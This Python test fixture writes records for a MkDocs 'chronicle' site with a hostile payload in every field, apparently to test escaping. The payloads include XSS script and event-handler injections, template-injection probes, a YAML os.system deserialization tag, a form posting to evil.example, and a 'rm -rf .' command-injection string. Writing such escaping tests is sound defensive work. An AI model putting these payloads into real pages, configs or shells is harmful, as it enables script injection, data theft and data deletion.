"""Records full of hostile text, made by walking the models, so that no field is forgotten."""

from __future__ import annotations

import base64
import types
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from itertools import chain
from pathlib import Path
from typing import Annotated, Any, ClassVar, Literal, Union, get_args, get_origin

from pydantic import BaseModel, TypeAdapter, ValidationError

import sites
from chronicle.records import FOLDERS, MODELS, Kind, Timeline
from chronicle.records.embed import NEEDS, VIEWS
from chronicle.records.fields import Marked, Target
from chronicle.records.timeline import MOST_LANES

RUN = "window.__pwned=1;alert(1)"


@dataclass(frozen=True)
class Payload:
    """A hostile text.

    `refused`: the check does not let it into Markdown. `literal`: Markdown leaves it as it is typed.
    """

    text: str
    refused: bool = False
    literal: bool = True


PAYLOADS = (
    Payload(f"<script>{RUN}</script>"),
    Payload(f'"><img src=x onerror="{RUN}">'),
    Payload(f"'><svg/onload='{RUN}'>"),
    Payload(f"</title><script>{RUN}</script>"),
    Payload(f"</textarea></style></noscript><iframe src=x onload={RUN}>"),
    Payload("<!-- a comment <b>bold</b>"),
    Payload("<!doctype html><base href=//evil.example/><form action=//evil.example/>"),
    Payload("<?php echo 1 ?> <![CDATA[ x ]]>"),
    Payload(f"&lt;script&gt;{RUN}&lt;/script&gt;", literal=False),
    Payload("&#123;&#123; 7*7 &#125;&#125; &amp;amp;", literal=False),
    Payload("{{ 7*7 }}"),
    Payload("{% raw %} {% endraw %}"),
    Payload('{% include "mkdocs.yml" %}'),
    Payload("{# gone #} {{ config.site_name }} {% endblock %}"),
    Payload("{{ ''.__class__.__mro__ }}", literal=False),
    Payload("${7*7} #{6+1} <%= 6+1 %>"),
    Payload(f"[x](javascript:{RUN})", refused=True),
    Payload(f"<javascript:{RUN}>", refused=True),
    Payload(f"[x](data:text/html,<script>{RUN}</script>)", refused=True),
    Payload(f"[x]: javascript:{RUN} [x] [y][x]"),
    Payload(f'[x](https://example.org/" onclick="{RUN})'),
    Payload("![x](https://evil.example/x.png)", literal=False),
    Payload('--8<-- "mkdocs.yml"'),
    Payload('-8<- "mkdocs.yml" ;--8<-- "mkdocs.yml"'),
    Payload(f"x {{: onclick={RUN} }} {{#hijacked .md-skip}}"),
    Payload(":material-account: :smile: :octicons-x-16:"),
    Payload("[TOC] [[TOC]] [TOC]"),
    Payload("*[HTML]: x *[probe]: HTML", literal=False),
    Payload("^[1] [^1] [^1]: a footnote"),
    Payload("---\ntemplate: x\nhide: [navigation]\n---", literal=False),
    Payload("```chronicle\nview: timeline\n```", literal=False),
    Payload("!!! danger\n    boxed\n\n??? note\n    more", literal=False),
    Payload("# A title\n\nUnder\n===\n\n## Another {#hijacked}", literal=False),
    Payload("| a | b |\n|---|---|\n| {{ 7*7 }} | <b>x</b> |\n\n", literal=False),
    Payload("\\1 \\g<0> $1 $& %s %(x)s {0} {name} {{x}}"),
    Payload("!!python/object/apply:os.system [id] &a *a <<: x", literal=False),
    Payload("klzzwxh:0000 wzxhzdk:0 hzzhzkh:0"),
    Payload('(c) "quoted" -- dashed --- ... \'s', literal=False),
    Payload("`code` ``{{ 7*7 }}`` ~~gone~~ ==mark== H~2~O ++x++", literal=False),
    Payload('=HYPERLINK("https://evil.example") $(id) ; rm -rf .'),
)
HARMLESS = tuple(Payload(f"harmless {number}") for number in range(len(PAYLOADS)))

WITHDRAWN = 4
"""Every fourth payload stands in withdrawn records too."""

# Of values that are no free text, the first that a type takes is used.
CANDIDATES = (
    "main",
    "2025-01-20",
    "true",
    "3",
    "https://example.org/a?b=1&c=%22",
    "images/picture.png",
    "en",
)

PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg=="
)


@dataclass
class Author:
    """Writes every field of a record, with one payload in each that takes text."""

    payload: Payload
    name: str
    """The id of the records that this author writes, and the mark of their texts."""
    kind: Kind | None = None
    """The kind of the record that is being written."""
    lines: dict[str, str] = field(default_factory=dict)
    """The plain texts written: the path of the field, and the text."""
    proses: dict[str, str] = field(default_factory=dict)
    """The Markdown written, likewise."""
    adapters: ClassVar[dict[str, TypeAdapter[Any]]] = {}
    """What reads the value of a field, by its path: slow to make."""

    def mark(self, path: str) -> str:
        """Return the mark of a field, which no markup changes."""
        return f"probe{self.name} of {path.replace('_', '-')} here"

    def model(self, model: type[BaseModel], path: str) -> dict[str, Any]:
        """Write every field of a model."""
        return {
            name: value
            for name, info in model.model_fields.items()
            # The id of a record is the name of its file.
            if not (name == "id" and model in MODELS.values())
            if (value := self.field(model, name, info.annotation, info.metadata, f"{path}.{name}"))
            is not None
        }

    def field(
        self, model: type[BaseModel], name: str, annotation: Any, metadata: list[Any], path: str
    ) -> Any:
        """Write one field; some fields belong together, and are written by hand."""
        special: Mapping[tuple[str, str], Any] = {
            ("Acceptance", "check"): "claim-without-source",
            ("Event", "lane"): f"l{int(self.name) % MOST_LANES}",
            ("Event", "kind"): f"p{self.name}",
            ("Event", "tags"): [f"p{self.name}"],
        }
        if name == "withdrawn":
            return None
        if name == "former_ids":
            return [f"{self.kind}-{self.name}-old"]
        if name == "cite":
            return list(self.citations(annotation, path))
        if (model.__name__, name) in special:
            return special[model.__name__, name]
        return self.value(annotation, metadata, path)

    def citations(self, annotation: Any, path: str) -> Iterator[dict[str, Any]]:
        """Write one citation for each way of naming who speaks."""
        (citation,) = {one for one in _models(annotation) if one.__name__ == "Citation"}
        (voice,) = set(_models(citation.model_fields["by"].annotation))
        spoken = self.model(voice, f"{path}.by")
        ways = [("entity",), ("people", "described"), ("document",), ("unstated",)]
        assert set(spoken) == set(chain.from_iterable(ways)), "a new way to speak"
        stances = get_args(citation.model_fields["stance"].annotation)
        for number, stance in enumerate(stances):
            written = self.model(citation, path)
            way = ways[number % len(ways)]
            yield {**written, "by": {name: spoken[name] for name in way}, "stance": stance}

    def value(self, annotation: Any, metadata: list[Any], path: str) -> Any:
        """Write a value of a type."""
        origin, arguments = get_origin(annotation), get_args(annotation)
        if origin is Annotated:
            return self.value(arguments[0], [*metadata, *arguments[1:]], path)
        if origin in {Union, types.UnionType} and not _is_scalar(annotation, metadata):
            wanted = next(one for one in arguments if one is not type(None))
            return self.value(wanted, metadata, path)
        if origin is tuple:
            return [self.value(arguments[0], [], path)]
        if origin is dict:
            key = self.value(arguments[0], [], f"{path}.key")
            return {key: self.value(arguments[1], [], path)}
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            return self.model(annotation, path)
        return self.scalar(annotation, metadata, path)

    def scalar(self, annotation: Any, metadata: list[Any], path: str) -> str:
        """Write a text, or what else a type takes."""
        target = next((one for one in metadata if isinstance(one, Target)), None)
        if target is not None:
            # What a source takes over must not lead back to it.
            return "base" if "relies_on" in path else self.target(target.kind or self.kind)
        if get_origin(annotation) is Literal:
            return str(get_args(annotation)[0])
        adapter = self.adapters.get(path)
        if adapter is None:
            made = Annotated[annotation, *metadata] if metadata else annotation
            adapter = self.adapters[path] = TypeAdapter(made)
        markdown = any(isinstance(one, Marked) for one in metadata)
        text = self.payload.text
        if markdown and self.payload.refused:
            text = "refused"
        for typed in (f"{text} {self.mark(path)}", f"{' '.join(text.split())} {self.mark(path)}"):
            if _takes(adapter, typed):
                (self.proses if markdown else self.lines)[path] = typed
                return typed
        return next(one for one in CANDIDATES if _takes(adapter, one))

    def target(self, kind: Kind | None) -> str:
        """Name a record: of the same author, but of no event or record of its own kind."""
        return "base" if kind == self.kind else f"p{self.name}"


def _takes(adapter: TypeAdapter[Any], text: str) -> bool:
    try:
        adapter.validate_python(text)
    except ValidationError:
        return False
    return True


def _is_scalar(annotation: Any, metadata: list[Any]) -> bool:
    """Whether an annotation with a validator of its own stands for one value."""
    del annotation
    return any(type(one).__name__ == "PlainValidator" for one in metadata)


def _models(annotation: Any) -> Iterator[type[Any]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    for argument in get_args(annotation):
        yield from _models(argument)


@dataclass(frozen=True)
class Written:
    """A site that has been written, and the texts in it: by record, or for the timeline's."""

    folder: Path
    authors: dict[tuple[Kind, str], Author]
    timeline: Author


BASE: dict[Kind, dict[str, Any]] = {
    "event": {
        "title": "Base",
        "date": "2025-01-01",
        "lane": "l0",
        "claims": [{"id": "main", "text": "Base.", "cite": "base"}],
    },
    "entity": {"name": "Base", "kind": "organisation"},
    "source": {"title": "Base", "publisher": "base", "published": "2025-01-02"},
    "question": {"title": "Base?"},
    "promise": {
        "title": "Base",
        "by": "base",
        "expected": [{"date": "2025-01-03", "cite": "base"}],
    },
}

CONFIG = """
site_name: Hostile
site_url: https://example.org/a/b/
theme:
  name: material
  font: false
plugins: [search, chronicle]
nav:
  - Front: index.md
  - Embeds: embeds.md
markdown_extensions:
  - abbr
  - admonition
  - attr_list
  - def_list
  - footnotes
  - md_in_html
  - meta
  - smarty
  - tables
  - toc: {permalink: true}
  - pymdownx.caret
  - pymdownx.details
  - pymdownx.magiclink
  - pymdownx.mark
  - pymdownx.snippets
  - pymdownx.superfences
  - pymdownx.tilde
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
      emoji_generator: !!python/name:material.extensions.emoji.to_svg
"""


def write(folder: Path, payloads: tuple[Payload, ...]) -> Written:
    """Write a site in which every payload stands in every field of every kind of record."""
    (folder / "docs").mkdir(parents=True)
    (folder / "mkdocs.yml").write_text(CONFIG.lstrip(), "utf-8")
    events = folder / "events"
    authors: dict[tuple[Kind, str], Author] = {}
    for kind, shelf in FOLDERS.items():
        sites.write_record(events / shelf / "base.yml", BASE[kind])
        for number, payload in enumerate(payloads):
            author = Author(payload, f"{number:02}", kind)
            record = author.model(MODELS[kind], kind)
            sites.write_record(events / shelf / f"p{number:02}.yml", record)
            authors[kind, f"p{number:02}"] = author
            if number % WITHDRAWN:
                continue
            gone = Author(payload, f"{number:02}", kind)
            record = {**gone.model(MODELS[kind], kind), "former_ids": []}
            withdrawal = MODELS[kind].model_fields["withdrawn"]
            record["withdrawn"] = gone.value(
                withdrawal.annotation, withdrawal.metadata, f"{kind}.withdrawn"
            )
            sites.write_record(events / shelf / f"w{number:02}.yml", record)
            authors[kind, f"w{number:02}"] = gone
    timeline = _timeline(events, payloads)
    (events / "images").mkdir()
    (events / "images" / "picture.png").write_bytes(PICTURE)
    (folder / "docs" / "embeds.md").write_text(_embeds(len(payloads)), "utf-8")
    return Written(folder, authors, timeline)


def _timeline(events: Path, payloads: tuple[Payload, ...]) -> Author:
    everything = Payload(" ".join(one.text for one in payloads if not one.refused), literal=False)
    author = Author(everything, "99")
    record = author.model(Timeline, "timeline")
    term = record["kinds"]["main"]
    for vocabulary in ("kinds", "tags", "roles"):
        record[vocabulary] = {"main": record[vocabulary]["main"]}
        for number, payload in enumerate(payloads):
            words = Author(payload, f"{number:02}")
            path = f"timeline.{vocabulary}"
            (model,) = set(_models(Timeline.model_fields[vocabulary].annotation))
            record[vocabulary][f"p{number:02}"] = words.model(model, path)
    record["lanes"] = {f"l{number}": term for number in range(MOST_LANES)}
    sites.write_record(events / "timeline.yml", record)
    return author


def _embeds(count: int) -> str:
    """Write a page under docs/ that shows every view, of every record that a view can show."""
    parts = ["---\ndescription: Embeds\n---\n", "# Embeds\n", "*[probe]: an abbreviation\n"]
    parts += ["A text[^1] on probe.\n", "[^1]: A note.\n"]
    for view in VIEWS:
        named = (
            [f"{NEEDS[view]}: p{number:02}" for number in range(count)] if view in NEEDS else [""]
        )
        parts += [f"```chronicle\nview: {view}\n{one}\n```\n" for one in named]
    parts.append("After *everything*, probe.\n")
    return "\n".join(parts)
